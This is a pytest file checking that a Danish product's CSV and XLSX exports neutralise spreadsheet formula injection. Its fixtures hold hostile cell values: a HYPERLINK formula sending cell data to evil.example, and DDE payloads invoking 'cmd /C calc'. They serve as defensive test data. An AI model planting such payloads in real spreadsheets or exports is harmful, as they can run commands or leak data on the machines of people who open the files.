"""Issue 12, item 10: every .csv and .xlsx the product emits is formula-safe.

A name, a title or an anonymous comment starting with = + - @ (or a tab or
carriage return in front of one) must never become a live formula: CSV cells
get a leading apostrophe, .xlsx text is a string cell (no ``<f>`` element).
Each export is made the way an operator makes it (CLI or the temadag export).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import pytest

from rusfokus.cli import main
from rusfokus.db import session_scope
from rusfokus.migrations import upgrade
from rusfokus.progress.models import STATUS_ACTIVE, Person
from rusfokus.progress.staff import OrgCache
from rusfokus.safe_export import FORMULA_STARTS, SafeCsvWriter, neutralise, safe_frame
from rusfokus.temadag import evaluation, planning, store

NOW = dt.datetime(2027, 3, 11, 9, 5)
EVIL_NAME = '=HYPERLINK("https://evil.example/?"&A1;"Klik her")'
EVIL_INST = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_COMMENT = "+1+cmd|' /C calc'!A0"
TAB_NAME = "\t=1+1"
CR_AFDELING = "\r=2+2"


def risky_cells(rows):
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def xlsx_sheets(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def xlsx_text(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


@pytest.fixture
def db(tmp_path):
    url = f"sqlite:///{tmp_path / 'rusfokus.db'}"
    upgrade(url)
    with session_scope(url) as s:
        inst = OrgCache(s).institution("-Forvaltning", CR_AFDELING, EVIL_INST)
        for name, email in (
            (EVIL_NAME, "evil@eksempel.dk"),
            (TAB_NAME, "tab@eksempel.dk"),
            ("Mette Hansen", "mette@eksempel.dk"),
        ):
            s.add(
                Person(
                    email=email,
                    name=name,
                    faggruppe="Pædagog",
                    institution_id=inst.id,
                    noegleperson=False,
                    status=STATUS_ACTIVE,
                    created_at=NOW,
                    updated_at=NOW,
                )
            )
    return url


def test_neutralise_rules():
    for value in ("=1+1", "+1", "-1+1", "@A1", "\t=1"):
        assert neutralise(value) == "'" + value
    assert neutralise("\r=1") == "'\n=1" and neutralise("a\r\nb") == "a\nb"
    for value in ("Mette", "", "1-2", "a=b", 5, -3.5, None, NOW):
        assert neutralise(value) == value
    buf = io.StringIO()
    SafeCsvWriter(buf, delimiter=";").writerow(["=1", 2, "ok"])
    assert buf.getvalue().strip() == "'=1;2;ok"


def test_staff_list_csv_is_formula_safe(db, capsys):
    assert main(["staff", "list", "--format", "csv", "--db", db]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert risky_cells(rows) == []
    cells = {cell for row in rows for cell in row}
    assert "'" + EVIL_NAME in cells and "'" + EVIL_INST in cells and "'" + TAB_NAME in cells
    assert "'\n=2+2" in cells  # a carriage return cannot split the row either


def test_report_xlsx_and_csv_are_formula_safe(db, tmp_path, capsys):
    out = tmp_path / "rapport.xlsx"
    assert main(["report", "--out", str(out), "--db", db]) == 0
    data = out.read_bytes()
    assert all("<f>" not in xml for xml in xlsx_sheets(data).values())
    assert EVIL_INST.replace("'", "&apos;") in xlsx_text(data) or EVIL_INST.replace("&", "&amp;") in xlsx_text(data)
    folder = tmp_path / "csv"
    assert main(["report", "--out", str(folder), "--db", db]) == 0
    seen = []
    for path in folder.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
        assert risky_cells(rows) == [], path.name
        seen += [cell for row in rows for cell in row]
    assert "'" + EVIL_INST in seen and "'-Forvaltning" in seen and "'\n=2+2" in seen


def test_temadag_xlsx_export_is_formula_safe(db):
    with session_scope(db) as s:
        plan = planning.validate_plan(
            {
                "title": "=1+1 temadag",
                "date": "2027-03-11",
                "place": "@Rådhuset",
                "modules": "opsporing",
                "facilitator": "-Pia",
                "institutions": EVIL_INST,
            }
        )
        row = store.create(s, plan, "admin", NOW)
        person = s.query(Person).filter_by(email="mette@eksempel.dk").one()
        participant = store.check_in(s, row, person, "liste", NOW, 24)
        form = {key: "4" for key, _ in evaluation.QUESTIONS}
        store.add_evaluation(s, participant, evaluation.parse_form({**form, "fritekst": EVIL_COMMENT}), NOW.date())
        plans = store.list_plans(s)
        evaluations = {p.id: store.evaluation_summary(s, p.id) for p in plans}
    data = planning.export_xlsx(plans, NOW.date(), evaluations)
    sheets = xlsx_sheets(data)
    assert len(sheets) == 2 and all("<f>" not in xml for xml in sheets.values())
    text = xlsx_text(data)
    assert "=1+1 temadag" in text and "+1+cmd|" in text and "@Rådhuset" in text
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    comment = wb["Evaluering"].cell(2, wb["Evaluering"].max_column)
    assert comment.value == EVIL_COMMENT and comment.data_type == "s"


def test_links_csv_is_formula_safe(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("RUSFOKUS_HOME", str(tmp_path))
    from rusfokus.settings import get_settings

    if hasattr(get_settings, "cache_clear"):
        get_settings.cache_clear()
    roster = tmp_path / "liste.csv"
    roster.write_text(
        f'Navn;E-mail;Arbejdssted\n"{EVIL_NAME.replace(chr(34), chr(34) * 2)}";evil@eksempel.dk;Skolen\n'
        "Mette Hansen;mette@eksempel.dk;Skolen\n",
        encoding="utf-8",
    )
    out = tmp_path / "links.csv"
    assert main(["links", "--roster", str(roster), "--out", str(out), "--base-url", "https://kursus.example"]) == 0
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    assert risky_cells(rows) == []
    assert rows[1][0] == "'" + EVIL_NAME and rows[2][0] == "Mette Hansen"


def test_safe_frame_keeps_numbers_and_dates():
    import pandas as pd

    frame = pd.DataFrame({"=navn": ["=a", "b"], "n": [-1, 2], "dag": [NOW.date(), NOW.date()]})
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=navn", "n", "dag"]
    assert safe["'=navn"].tolist() == ["'=a", "b"] and safe["n"].tolist() == [-1, 2]
    assert frame.columns[0] == "=navn"  # the original is untouched
